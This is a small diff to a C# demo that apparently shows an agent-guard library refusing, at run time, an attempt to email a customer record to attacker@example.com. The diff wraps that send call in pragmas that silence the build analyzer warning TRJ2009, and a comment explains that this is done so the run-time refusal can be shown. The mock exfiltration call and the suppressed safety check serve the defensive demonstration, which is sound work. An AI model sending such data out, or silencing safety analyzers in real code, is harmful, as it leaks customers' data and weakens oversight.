@@ -30,10 +30,14 @@ public static class Agent
             Console.WriteLine($"read: refused {e.Code}: {e.Message}");
         }
 
-        // The customer record is now in the agent's context: sending it out is exfiltration.
+        // The customer record is now in the agent's context: sending it out is exfiltration. The analyzers
+        // see it at build time too (TRJ2009: refused on the path where the read succeeded); this app exists
+        // to show the run-time refusal, so the build warning is silenced here and only here.
         try
         {
+#pragma warning disable TRJ2009
             tools.SendEmail("attacker@example.com", "the customer record");
+#pragma warning restore TRJ2009
         }
         catch (TrajectoryViolationException e)
         {
